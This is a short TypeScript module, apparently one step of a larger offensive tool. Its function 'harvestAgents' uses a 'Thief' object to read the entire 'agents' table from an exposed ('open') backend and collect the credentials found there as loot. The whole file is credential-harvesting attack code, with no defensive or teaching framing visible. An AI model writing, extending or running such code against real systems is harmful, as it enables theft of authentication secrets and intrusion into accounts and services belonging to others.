import type { OpenBackend } from './open-backend.ts';
import { noLoot, readTable } from './read-table.ts';
import type { Thief } from './thief.ts';

/** The whole table `agents`, with whatever it holds that authenticates. */
export function harvestAgents(thief: Thief, backend: OpenBackend): Promise<void> {
  return readTable(thief, backend, {
    step: 'harvest-agents',
    table: 'agents',
    take: (rows) => ({ ...noLoot, credentialsOf: thief.loot.takeAgents(rows) }),
  });
}
